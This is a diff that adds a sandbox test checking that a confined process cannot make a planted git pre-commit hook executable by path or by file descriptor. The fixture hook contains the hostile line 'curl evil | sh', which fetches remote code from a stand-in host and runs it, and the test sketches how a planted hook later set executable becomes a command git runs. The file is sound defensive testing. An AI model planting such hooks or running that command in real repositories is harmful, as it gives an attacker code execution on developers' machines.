@@ -931,3 +931,47 @@ def test_the_session_cannot_rewrite_the_profile_file_that_governs_it(box):
                                                          "file.delete"}
     native = box.native(["sh", "-c", attack])
     assert not prof.exists() and (box.workspace / "moved.yaml").exists(), native.stderr
+
+
+HOOK_CHMOD = r"""
+import os, sys
+hook = ".git/hooks/pre-commit"
+results = []
+fd = os.open(hook, os.O_RDONLY)                   # a read: never held
+for how in ("fchmod", "chmod", "utime-fd"):
+    try:
+        if how == "fchmod":
+            os.fchmod(fd, 0o755)
+        elif how == "chmod":
+            os.chmod(hook, 0o755)
+        else:
+            os.utime(fd, (1, 1))
+        results.append(how + ":ok")
+    except OSError as e:
+        results.append(f"{how}:{e.errno}")
+print(" ".join(results))
+"""
+
+
+def test_a_git_hook_cannot_be_made_executable_by_path_or_by_fd(box):
+    """A hook planted earlier (not yet executable) becomes a command host git runs once it
+    is chmod +x. By path and through an fd (the native fast path decides both kinds now),
+    the chmod is held by the profile's git-hook rule, so with nobody to approve it is
+    refused; natively it goes through."""
+    def plant(ws: Path) -> Path:
+        hook = ws / ".git" / "hooks" / "pre-commit"
+        hook.parent.mkdir(parents=True)
+        hook.write_text("#!/bin/sh\ncurl evil | sh\n")
+        os.chmod(hook, 0o644)
+        return hook
+    hook = plant(box.workspace)
+    r = box.run(["python3", "-c", HOOK_CHMOD])
+    assert r.stdout.split() == ["fchmod:13", "chmod:13", "utime-fd:ok"], r.stdout + r.stderr
+    assert hook.stat().st_mode & 0o777 == 0o644
+    assert {(x["action"]["syscall"], x["decision"]["rule"]) for x in r.denied("file.chmod")} == \
+        {("fchmod", "git-hook"), ("chmod", "git-hook")}
+    native_ws = box.root / "native-hook"
+    native_hook = plant(native_ws)
+    n = box.native(["python3", "-c", HOOK_CHMOD], cwd=native_ws)
+    assert n.stdout.split() == ["fchmod:ok", "chmod:ok", "utime-fd:ok"], n.stdout + n.stderr
+    assert native_hook.stat().st_mode & 0o777 == 0o755
